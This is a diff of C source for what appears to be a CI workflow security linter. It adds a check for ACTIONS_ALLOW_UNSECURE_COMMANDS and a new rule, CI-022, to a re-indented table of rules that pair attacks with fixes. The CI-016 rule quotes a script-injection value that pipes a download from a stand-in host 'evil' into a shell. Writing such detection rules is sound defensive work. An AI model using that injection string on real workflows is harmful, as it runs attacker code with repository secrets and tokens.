@@ -925,195 +925,237 @@ static void check_secrets_inherit(struct bh_ctx *ctx, const void *subject)
 	ctx->object = saved;
 }
 
-const struct bh_rule bh_ci_rules[] = {
-	{
-		.id = "CI-001",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_HIGH,
-		.title = "Image released without a blocking vulnerability scan",
-		.attack =
-			"An image with a known critical vulnerability reaches the registry and the cluster, where the agent's first exploited request owns it.",
-		.fix = "Scan the built image before it is pushed or signed with a step that fails the job: trivy image --exit-code 1 --severity CRITICAL,HIGH (or trivy-action with exit-code: '1'), grype --fail-on high, or bulkhead vuln --fail-on high; no continue-on-error, no || true.",
-		.refs = "SLSA Build L2; NIST SSDF PW.8; CIS Software Supply Chain 2.3",
-		.check = check_vuln_gate,
-	},
-	{
-		.id = "CI-002",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_MEDIUM,
-		.title = "Vulnerability gate ignores HIGH severity",
-		.attack =
-			"Remotely exploitable HIGH vulnerabilities pass the gate and ship in the image.",
-		.fix = "Include HIGH in the failing severities: --severity CRITICAL,HIGH, --fail-on high, severity-cutoff: high.",
-		.refs = "NIST SSDF PW.8",
-		.check = check_vuln_threshold,
-	},
-	{
-		.id = "CI-003",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_HIGH,
-		.title = "Pushed image is not signed",
-		.attack =
-			"Without a signature, the cluster cannot tell the image CI built from one an attacker pushed with stolen registry credentials.",
-		.fix = "Sign the pushed digest after the push: cosign sign --yes IMAGE@DIGEST (keyless with id-token: write, or --key env://COSIGN_PRIVATE_KEY from a secret), or bulkhead sign.",
-		.refs = "SLSA Build L2; Sigstore cosign; CIS Software Supply Chain 2.4",
-		.check = check_signed,
-	},
-	{
-		.id = "CI-004",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_MEDIUM,
-		.title = "No SBOM attested to the pushed image",
-		.attack =
-			"When the next critical CVE lands nobody can tell which running images contain the package, and an unattested SBOM can be swapped for a clean-looking one.",
-		.fix = "Generate an SBOM (syft IMAGE -o spdx-json, anchore/sbom-action, trivy --format spdx-json) and attest it to the pushed image: cosign attest --type spdxjson --predicate sbom.json IMAGE, actions/attest-sbom, or bulkhead attest.",
-		.refs = "NTIA SBOM minimum elements; SLSA; EO 14028",
-		.check = check_sbom,
-	},
-	{
-		.id = "CI-005",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_MEDIUM,
-		.title = "No secret scan of the repository",
-		.attack =
-			"A credential committed to the repository is copied into the image build context and history, where anyone who pulls the image or clones the repository finds it.",
-		.fix = "Add a secret scan of the repository to the workflow or its directory: gitleaks detect, trufflehog git, gitleaks/gitleaks-action, or bulkhead secrets --git.",
-		.refs = "CIS Software Supply Chain 1.5; OWASP CI/CD Top 10 CICD-SEC-6",
-		.check = check_secret_scan,
-	},
-	{
-		.id = "CI-010",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_HIGH,
-		.title = "Third-party action not pinned to a commit SHA",
-		.attack =
-			"Whoever controls the action's repository moves the tag or branch and runs code in the job with its secrets and token, as in the tj-actions/changed-files compromise.",
-		.fix = "Pin to the full 40-character commit SHA with the version in a comment (uses: owner/action@<sha> # v1.2.3); let Dependabot or Renovate update it.",
-		.refs = "GitHub security hardening: using third-party actions; OpenSSF Scorecard Pinned-Dependencies",
-		.check = check_unpinned_third,
-	},
-	{
-		.id = "CI-011",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_LOW,
-		.title = "GitHub-owned action not pinned to a commit SHA",
-		.attack =
-			"A moved tag of a GitHub-owned action changes the code the job runs without any change to the workflow.",
-		.fix = "Pin actions/* and github/* actions to full commit SHAs too, with the version in a comment.",
-		.refs = "OpenSSF Scorecard Pinned-Dependencies",
-		.check = check_unpinned_first,
-	},
-	{
-		.id = "CI-012",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_MEDIUM,
-		.title = "No permissions block: default GITHUB_TOKEN scope",
-		.attack =
-			"Any step compromised in the job (a dependency, an action) inherits a token that may write to the repository, its releases and packages.",
-		.fix = "Add permissions: {contents: read} at the workflow level and grant more only in the jobs that need it.",
-		.refs = "GitHub security hardening: GITHUB_TOKEN permissions; OpenSSF Scorecard Token-Permissions",
-		.check = check_no_permissions,
-	},
-	{
-		.id = "CI-013",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_HIGH,
-		.title = "permissions: write-all",
-		.attack =
-			"Every step gets a token that can push code, publish packages and rewrite releases.",
-		.fix = "List only the scopes the job needs, e.g. permissions: {contents: read, packages: write}.",
-		.refs = "GitHub security hardening: GITHUB_TOKEN permissions",
-		.check = check_write_all,
-	},
-	{
-		.id = "CI-014",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_MEDIUM,
-		.title = "id-token: write in a job that does not use OIDC",
-		.attack =
-			"A compromised step mints OIDC tokens that cloud roles and Sigstore trust as this repository's identity.",
-		.fix = "Grant id-token: write only to the job that signs, attests or exchanges the token with a cloud provider.",
-		.refs = "GitHub OIDC hardening",
-		.check = check_id_token,
-	},
-	{
-		.id = "CI-015",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_CRITICAL,
-		.title = "Privileged trigger runs the pull request's code",
-		.attack =
-			"A fork's pull request runs its own build scripts in a pull_request_target or workflow_run job that holds the repository's secrets and a write token (a 'pwn request').",
-		.fix = "Use the pull_request trigger for building untrusted code, or check out the base branch only; pass results to a privileged workflow as artifacts treated as data.",
-		.refs = "GitHub Security Lab: Preventing pwn requests",
-		.check = check_pwn_request,
-	},
-	{
-		.id = "CI-016",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_HIGH,
-		.title = "Script injection from an attacker-controlled context",
-		.attack =
-			"An issue title, branch name or commit message such as `a\"; curl evil | sh #` becomes shell code in the run: script, with the job's secrets and token.",
-		.fix = "Pass the value through env: (env: TITLE: ${{ github.event.issue.title }}) and use \"$TITLE\" in the script.",
-		.refs = "GitHub security hardening: script injections; GitHub Security Lab: untrusted input",
-		.check = check_injection,
-	},
-	{
-		.id = "CI-017",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_MEDIUM,
-		.title = "Secret in the environment of a third-party action",
-		.attack =
-			"Every line of the third-party action, and every process it starts, can read and exfiltrate the secret from its environment.",
-		.fix = "Pass secrets as with: inputs where the action takes them; where it only reads env (SONAR_TOKEN, SNYK_TOKEN), keep that env on its step alone, pin the action to a reviewed commit SHA, and scope the secret to that one service.",
-		.refs = "GitHub security hardening: using secrets",
-		.check = check_secrets_env,
-	},
-	{
-		.id = "CI-018",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_MEDIUM,
-		.title = "Checkout persists the token for third-party code",
-		.attack =
-			"actions/checkout stores the GITHUB_TOKEN in .git/config, where a later third-party action reads it and pushes to the repository.",
-		.fix = "Set persist-credentials: false on actions/checkout in jobs that run third-party actions.",
-		.refs = "actions/checkout persist-credentials; zizmor artipacked",
-		.check = check_persist_credentials,
-	},
-	{
-		.id = "CI-019",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_HIGH,
-		.title = "Self-hosted runner on pull-request events",
-		.attack =
-			"A fork's pull request runs arbitrary code on the self-hosted machine and leaves a backdoor for the next privileged job.",
-		.fix = "Run pull-request jobs on GitHub-hosted or ephemeral, isolated runners; keep self-hosted runners to private repositories or trusted triggers.",
-		.refs = "GitHub: self-hosted runner security",
-		.check = check_self_hosted,
-	},
-	{
-		.id = "CI-020",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_HIGH,
-		.title = "Signing key not taken from a secret",
-		.attack =
-			"A signing key in the workflow or the repository lets anyone who reads it sign malicious images that the cluster then trusts.",
-		.fix = "Pass the key from a secret (COSIGN_PRIVATE_KEY: ${{ secrets.COSIGN_PRIVATE_KEY }} with --key env://COSIGN_PRIVATE_KEY), use a KMS URI, or sign keyless.",
-		.refs = "Sigstore cosign key management",
-		.check = check_signing_key,
-	},
-	{
-		.id = "CI-021",
-		.layer = BH_LAYER_CI,
-		.severity = BH_SEV_MEDIUM,
-		.title = "All secrets inherited by an external reusable workflow",
-		.attack =
-			"secrets: inherit hands every repository and organisation secret to a workflow maintained elsewhere.",
-		.fix = "Pass the secrets the called workflow declares, one by one, under secrets:.",
-		.refs = "GitHub reusable workflows: passing secrets",
-		.check = check_secrets_inherit,
-	},
-};
+static void insecure_commands_in(struct bh_ctx *ctx, const struct bh_node *env, const char *object)
+{
+	const struct bh_node *v = bh_node_get(env, "ACTIONS_ALLOW_UNSECURE_COMMANDS");
+	int b;
+
+	if (!v || !((bh_node_bool(v, &b) && b) || bh_node_is(v, "true")))
+		return;
+	ctx->object = object;
+	bh_report(
+		ctx, v, object ? object : "workflow",
+		"ACTIONS_ALLOW_UNSECURE_COMMANDS re-enables ::set-env and ::add-path: anything that prints to the log can set the environment and PATH of later steps");
+}
+
+static void check_insecure_commands(struct bh_ctx *ctx, const void *subject)
+{
+	const struct bh_ci_workflow *w = subject;
+	const char *saved = ctx->object;
+
+	insecure_commands_in(ctx, w->env, NULL);
+	for (size_t j = 0; j < w->njobs; j++) {
+		const struct bh_ci_job *jb = &w->jobs[j];
+
+		insecure_commands_in(ctx, jb->env, jb->ref);
+		for (size_t k = 0; k < jb->nsteps; k++)
+			insecure_commands_in(ctx, jb->steps[k].env, jb->ref);
+	}
+	ctx->object = saved;
+}
+
+const struct bh_rule
+	bh_ci_rules
+		[] = {
+			{
+				.id = "CI-001",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_HIGH,
+				.title = "Image released without a blocking vulnerability scan",
+				.attack =
+					"An image with a known critical vulnerability reaches the registry and the cluster, where the agent's first exploited request owns it.",
+				.fix = "Scan the built image before it is pushed or signed with a step that fails the job: trivy image --exit-code 1 --severity CRITICAL,HIGH (or trivy-action with exit-code: '1'), grype --fail-on high, or bulkhead vuln --fail-on high; no continue-on-error, no || true.",
+				.refs = "SLSA Build L2; NIST SSDF PW.8; CIS Software Supply Chain 2.3",
+				.check = check_vuln_gate,
+			},
+			{
+				.id = "CI-002",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_MEDIUM,
+				.title = "Vulnerability gate ignores HIGH severity",
+				.attack =
+					"Remotely exploitable HIGH vulnerabilities pass the gate and ship in the image.",
+				.fix = "Include HIGH in the failing severities: --severity CRITICAL,HIGH, --fail-on high, severity-cutoff: high.",
+				.refs = "NIST SSDF PW.8",
+				.check = check_vuln_threshold,
+			},
+			{
+				.id = "CI-003",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_HIGH,
+				.title = "Pushed image is not signed",
+				.attack =
+					"Without a signature, the cluster cannot tell the image CI built from one an attacker pushed with stolen registry credentials.",
+				.fix = "Sign the pushed digest after the push: cosign sign --yes IMAGE@DIGEST (keyless with id-token: write, or --key env://COSIGN_PRIVATE_KEY from a secret), or bulkhead sign.",
+				.refs = "SLSA Build L2; Sigstore cosign; CIS Software Supply Chain 2.4",
+				.check = check_signed,
+			},
+			{
+				.id = "CI-004",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_MEDIUM,
+				.title = "No SBOM attested to the pushed image",
+				.attack =
+					"When the next critical CVE lands nobody can tell which running images contain the package, and an unattested SBOM can be swapped for a clean-looking one.",
+				.fix = "Generate an SBOM (syft IMAGE -o spdx-json, anchore/sbom-action, trivy --format spdx-json) and attest it to the pushed image: cosign attest --type spdxjson --predicate sbom.json IMAGE, actions/attest-sbom, or bulkhead attest.",
+				.refs = "NTIA SBOM minimum elements; SLSA; EO 14028",
+				.check = check_sbom,
+			},
+			{
+				.id = "CI-005",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_MEDIUM,
+				.title = "No secret scan of the repository",
+				.attack =
+					"A credential committed to the repository is copied into the image build context and history, where anyone who pulls the image or clones the repository finds it.",
+				.fix = "Add a secret scan of the repository to the workflow or its directory: gitleaks detect, trufflehog git, gitleaks/gitleaks-action, or bulkhead secrets --git.",
+				.refs = "CIS Software Supply Chain 1.5; OWASP CI/CD Top 10 CICD-SEC-6",
+				.check = check_secret_scan,
+			},
+			{
+				.id = "CI-010",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_HIGH,
+				.title = "Third-party action not pinned to a commit SHA",
+				.attack =
+					"Whoever controls the action's repository moves the tag or branch and runs code in the job with its secrets and token, as in the tj-actions/changed-files compromise.",
+				.fix = "Pin to the full 40-character commit SHA with the version in a comment (uses: owner/action@<sha> # v1.2.3); let Dependabot or Renovate update it.",
+				.refs = "GitHub security hardening: using third-party actions; OpenSSF Scorecard Pinned-Dependencies",
+				.check = check_unpinned_third,
+			},
+			{
+				.id = "CI-011",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_LOW,
+				.title = "GitHub-owned action not pinned to a commit SHA",
+				.attack =
+					"A moved tag of a GitHub-owned action changes the code the job runs without any change to the workflow.",
+				.fix = "Pin actions/* and github/* actions to full commit SHAs too, with the version in a comment.",
+				.refs = "OpenSSF Scorecard Pinned-Dependencies",
+				.check = check_unpinned_first,
+			},
+			{
+				.id = "CI-012",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_MEDIUM,
+				.title = "No permissions block: default GITHUB_TOKEN scope",
+				.attack =
+					"Any step compromised in the job (a dependency, an action) inherits a token that may write to the repository, its releases and packages.",
+				.fix = "Add permissions: {contents: read} at the workflow level and grant more only in the jobs that need it.",
+				.refs = "GitHub security hardening: GITHUB_TOKEN permissions; OpenSSF Scorecard Token-Permissions",
+				.check = check_no_permissions,
+			},
+			{
+				.id = "CI-013",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_HIGH,
+				.title = "permissions: write-all",
+				.attack =
+					"Every step gets a token that can push code, publish packages and rewrite releases.",
+				.fix = "List only the scopes the job needs, e.g. permissions: {contents: read, packages: write}.",
+				.refs = "GitHub security hardening: GITHUB_TOKEN permissions",
+				.check = check_write_all,
+			},
+			{
+				.id = "CI-014",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_MEDIUM,
+				.title = "id-token: write in a job that does not use OIDC",
+				.attack =
+					"A compromised step mints OIDC tokens that cloud roles and Sigstore trust as this repository's identity.",
+				.fix = "Grant id-token: write only to the job that signs, attests or exchanges the token with a cloud provider.",
+				.refs = "GitHub OIDC hardening",
+				.check = check_id_token,
+			},
+			{
+				.id = "CI-015",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_CRITICAL,
+				.title = "Privileged trigger runs the pull request's code",
+				.attack =
+					"A fork's pull request runs its own build scripts in a pull_request_target or workflow_run job that holds the repository's secrets and a write token (a 'pwn request').",
+				.fix = "Use the pull_request trigger for building untrusted code, or check out the base branch only; pass results to a privileged workflow as artifacts treated as data.",
+				.refs = "GitHub Security Lab: Preventing pwn requests",
+				.check = check_pwn_request,
+			},
+			{
+				.id = "CI-016",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_HIGH,
+				.title = "Script injection from an attacker-controlled context",
+				.attack =
+					"An issue title, branch name or commit message such as `a\"; curl evil | sh #` becomes shell code in the run: script, with the job's secrets and token.",
+				.fix = "Pass the value through env: (env: TITLE: ${{ github.event.issue.title }}) and use \"$TITLE\" in the script.",
+				.refs = "GitHub security hardening: script injections; GitHub Security Lab: untrusted input",
+				.check = check_injection,
+			},
+			{
+				.id = "CI-017",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_MEDIUM,
+				.title = "Secret in the environment of a third-party action",
+				.attack =
+					"Every line of the third-party action, and every process it starts, can read and exfiltrate the secret from its environment.",
+				.fix = "Pass secrets as with: inputs where the action takes them; where it only reads env (SONAR_TOKEN, SNYK_TOKEN), keep that env on its step alone, pin the action to a reviewed commit SHA, and scope the secret to that one service.",
+				.refs = "GitHub security hardening: using secrets",
+				.check = check_secrets_env,
+			},
+			{
+				.id = "CI-018",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_MEDIUM,
+				.title = "Checkout persists the token for third-party code",
+				.attack =
+					"actions/checkout stores the GITHUB_TOKEN in .git/config, where a later third-party action reads it and pushes to the repository.",
+				.fix = "Set persist-credentials: false on actions/checkout in jobs that run third-party actions.",
+				.refs = "actions/checkout persist-credentials; zizmor artipacked",
+				.check = check_persist_credentials,
+			},
+			{
+				.id = "CI-019",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_HIGH,
+				.title = "Self-hosted runner on pull-request events",
+				.attack =
+					"A fork's pull request runs arbitrary code on the self-hosted machine and leaves a backdoor for the next privileged job.",
+				.fix = "Run pull-request jobs on GitHub-hosted or ephemeral, isolated runners; keep self-hosted runners to private repositories or trusted triggers.",
+				.refs = "GitHub: self-hosted runner security",
+				.check = check_self_hosted,
+			},
+			{
+				.id = "CI-020",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_HIGH,
+				.title = "Signing key not taken from a secret",
+				.attack =
+					"A signing key in the workflow or the repository lets anyone who reads it sign malicious images that the cluster then trusts.",
+				.fix = "Pass the key from a secret (COSIGN_PRIVATE_KEY: ${{ secrets.COSIGN_PRIVATE_KEY }} with --key env://COSIGN_PRIVATE_KEY), use a KMS URI, or sign keyless.",
+				.refs = "Sigstore cosign key management",
+				.check = check_signing_key,
+			},
+			{
+				.id = "CI-021",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_MEDIUM,
+				.title = "All secrets inherited by an external reusable workflow",
+				.attack =
+					"secrets: inherit hands every repository and organisation secret to a workflow maintained elsewhere.",
+				.fix = "Pass the secrets the called workflow declares, one by one, under secrets:.",
+				.refs = "GitHub reusable workflows: passing secrets",
+				.check = check_secrets_inherit,
+			},
+			{
+				.id = "CI-022",
+				.layer = BH_LAYER_CI,
+				.severity = BH_SEV_HIGH,
+				.title = "Deprecated workflow commands re-enabled",
+				.attack =
+					"An issue title or test output echoed to the log as ::set-env:: sets LD_PRELOAD or PATH for the following steps (CVE-2020-15228).",
+				.fix = "Remove ACTIONS_ALLOW_UNSECURE_COMMANDS and write to $GITHUB_ENV and $GITHUB_PATH instead.",
+				.refs = "CVE-2020-15228; GitHub changelog: deprecating set-env and add-path commands",
+				.check = check_insecure_commands,
+			},
+		};
 const size_t bh_ci_nrules = sizeof(bh_ci_rules) / sizeof(bh_ci_rules[0]);
 
 void bh_ci_check(struct bh_ctx *ctx, const struct bh_ci_workflow *w)
